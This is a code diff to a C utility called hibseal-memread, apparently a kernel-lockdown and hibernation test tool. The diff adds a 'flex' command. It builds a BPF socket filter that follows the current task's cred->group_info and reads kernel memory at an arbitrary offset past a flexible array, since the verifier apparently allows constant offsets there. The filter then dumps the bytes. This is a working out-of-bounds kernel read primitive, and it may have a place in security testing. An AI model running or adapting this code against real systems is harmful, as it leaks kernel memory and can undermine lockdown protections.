@@ -27,6 +27,14 @@
  *                                       loads, and attach it; with test_resume, then hibernate
  *                                       in that mode (the boot runs on) and print what the
  *                                       program read
+ *   hibseal-memread flex CRED GROUPS OFF
+ *                                       load a socket filter that reads 32 bytes at OFF (decimal)
+ *                                       past the start of its task's supplementary groups
+ *                                       (bpf_get_current_task_btf(), then ->cred at offset CRED,
+ *                                       ->group_info at GROUPS: a struct ending in a flexible
+ *                                       array, whose elements the verifier lets a program read
+ *                                       at any constant offset), four bytes a load, into a
+ *                                       map, run it and print them ("memread: flex hex=...")
  *   hibseal-memread --after-lift METHOD ...
  *                                       first, as SCHED_FIFO at the top priority, memory locked,
  *                                       spin on /sys/kernel/security/lockdown until it reads
@@ -265,6 +273,26 @@ static const char *log_reason(const char *log)
 		reason[n] = 0;
 	}
 	return reason;
+}
+
+/* BPF_PROG_LOAD of @n instructions, GPL, the verifier's log in vlog: a descriptor or -1. */
+static int load_insns(uint32_t type, uint32_t attach, uint32_t btf_id,
+		      const struct bpf_insn *insns, uint32_t n, const char *name)
+{
+	union bpf_attr attr;
+
+	memset(&attr, 0, sizeof(attr));
+	attr.prog_type = type;
+	attr.expected_attach_type = attach;
+	attr.attach_btf_id = btf_id;
+	attr.insns = ptr(insns);
+	attr.insn_cnt = n;
+	attr.license = ptr("GPL");
+	attr.log_buf = ptr(vlog);
+	attr.log_size = sizeof(vlog);
+	attr.log_level = 1;
+	memcpy(attr.prog_name, name, strnlen(name, sizeof(attr.prog_name) - 1));
+	return (int)sys_bpf(BPF_PROG_LOAD, &attr);
 }
 
 /*
@@ -795,18 +823,8 @@ static int cmd_fexit(const char *func, int arg, bool hibernate)
 	}
 	*in++ = MOV_IMM(BPF_REG_0, 0);
 	*in++ = EXIT();
-	memset(&attr, 0, sizeof(attr));
-	attr.prog_type = BPF_PROG_TYPE_TRACING;
-	attr.expected_attach_type = BPF_TRACE_FEXIT;
-	attr.attach_btf_id = id;
-	attr.insns = ptr(insns);
-	attr.insn_cnt = (uint32_t)(in - insns);
-	attr.license = ptr("GPL");
-	attr.log_buf = ptr(vlog);
-	attr.log_size = sizeof(vlog);
-	attr.log_level = 1;
-	memcpy(attr.prog_name, "memread_fexit", sizeof("memread_fexit"));
-	prog = (int)sys_bpf(BPF_PROG_LOAD, &attr);
+	prog = load_insns(BPF_PROG_TYPE_TRACING, BPF_TRACE_FEXIT, id, insns,
+			  (uint32_t)(in - insns), "memread_fexit");
 	if (prog < 0) {
 		int e = errno;
 
@@ -1010,6 +1028,77 @@ static int run_method(struct reader *r, int argc, char **argv)
 	return usage();
 }
 
+#define LDX_W(d, s, o)		INSN(BPF_LDX | BPF_MEM | BPF_W, d, s, o, 0)
+#define STX_W(d, s, o)		INSN(BPF_STX | BPF_MEM | BPF_W, d, s, o, 0)
+#define FLEX_READS		8
+
+/*
+ * r6 = bpf_get_current_task_btf()->cred->group_info (BTF pointers); key = 0 at fp - 4;
+ * r0 = lookup(out, &key); for each i: out[4i] = *(u32 *)(r6 + OFF + 4i); return 0.
+ * Every load through r6 is past the end of struct group_info, inside its gid[] as the
+ * verifier sees it: wherever OFF points.
+ */
+static int cmd_flex(int cred, int groups, int off)
+{
+	struct bpf_insn insns[11 + 2 * FLEX_READS + 2] = {
+		CALL(BPF_FUNC_get_current_task_btf),
+		LDX_DW(BPF_REG_1, BPF_REG_0, (int16_t)cred),
+		LDX_DW(BPF_REG_6, BPF_REG_1, (int16_t)groups),
+		ST_W(BPF_REG_10, -4, 0),
+		LD_MAP_FD(BPF_REG_1, 0),
+		MOV_REG(BPF_REG_2, BPF_REG_10),
+		ADD_IMM(BPF_REG_2, -4),
+		CALL(BPF_FUNC_map_lookup_elem),
+		JNE_IMM(BPF_REG_0, 0, 1),
+		EXIT(),
+	};
+	uint8_t out[OUT_SIZE] = { 0 };
+	uint8_t pkt[64] = { 0 };
+	union bpf_attr attr;
+	int map, prog, i, n = 11, e;
+
+	if (off < 0 || off + 4 * FLEX_READS > 32767)
+		return usage();
+	map = map_create("flex", OUT_SIZE, 0);
+	if (map < 0) {
+		e = errno;
+		printf("memread: flex refused step=map errno=%d (%s)\n", e, strerror(e));
+		return 0;
+	}
+	insns[4].imm = map;
+	for (i = 0; i < FLEX_READS; i++) {
+		insns[n++] = LDX_W(BPF_REG_1, BPF_REG_6, (int16_t)(off + 4 * i));
+		insns[n++] = STX_W(BPF_REG_0, BPF_REG_1, (int16_t)(4 * i));
+	}
+	insns[n++] = MOV_IMM(BPF_REG_0, 0);
+	insns[n++] = EXIT();
+	prog = load_insns(BPF_PROG_TYPE_SOCKET_FILTER, 0, 0, insns, (uint32_t)n, "flexread");
+	if (prog < 0) {
+		e = errno;
+		printf("memread: flex refused step=load errno=%d (%s) log=%s\n", e, strerror(e),
+		       log_reason(vlog));
+		fprintf(stderr, "hibseal-memread: verifier log:\n%s\n", vlog);
+		close(map);
+		return 0;
+	}
+	memset(&attr, 0, sizeof(attr));
+	attr.test.prog_fd = (uint32_t)prog;
+	attr.test.data_in = ptr(pkt);
+	attr.test.data_size_in = sizeof(pkt);
+	attr.test.repeat = 1;
+	if (sys_bpf(BPF_PROG_TEST_RUN, &attr) || map_op(BPF_MAP_LOOKUP_ELEM, map, out)) {
+		e = errno;
+		printf("memread: flex refused step=run errno=%d (%s)\n", e, strerror(e));
+	} else {
+		printf("memread: flex hex=");
+		print_hex(out, 4 * FLEX_READS);
+		printf("\n");
+	}
+	close(prog);
+	close(map);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	struct reader r = { .b = { -1, -1, -1, -1 }, .k = { .fd = -1 } };
@@ -1028,6 +1117,8 @@ int main(int argc, char **argv)
 	if ((argc == 4 || argc == 5) && !strcmp(argv[1], "fexit") && argv[3][0] >= '0' &&
 	    argv[3][0] <= '5' && !argv[3][1] && (argc == 4 || !strcmp(argv[4], "test_resume")))
 		return cmd_fexit(argv[2], argv[3][0] - '0', argc == 5) ? 1 : 0;
+	if (argc == 5 && !strcmp(argv[1], "flex"))
+		return cmd_flex(atoi(argv[2]), atoi(argv[3]), atoi(argv[4])) ? 1 : 0;
 	if ((argc == 5 || argc == 6) && !strcmp(argv[1], "vmcore") && !strcmp(argv[2], "scan")) {
 		r.name = argv[1];
 		return run_method(&r, argc, argv) < 0 ? 1 : 0;
